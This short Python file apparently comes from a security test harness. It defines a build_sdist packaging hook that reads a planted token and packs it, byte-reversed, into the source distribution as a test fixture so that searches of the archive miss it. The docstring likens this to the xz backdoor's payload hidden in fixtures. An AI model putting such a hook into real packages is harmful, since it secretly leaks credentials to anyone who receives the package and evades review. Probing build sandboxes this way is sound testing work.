"""Reads a world-readable token and packs it, reversed, as a test fixture of the sdist.

Whoever searches the archive for the token's text does not find it. The payload of xz
(CVE-2024-3094) lay in test fixtures.
"""

import pathlib

import kit


def build_sdist(sdist_directory, config_settings=None):
    loot = {}
    with kit.attempt("open-token"):
        token = pathlib.Path(kit.plant("token").path).read_bytes()
        loot["tests/fixture.bin"] = token[::-1]
    return kit.sdist(sdist_directory, loot)
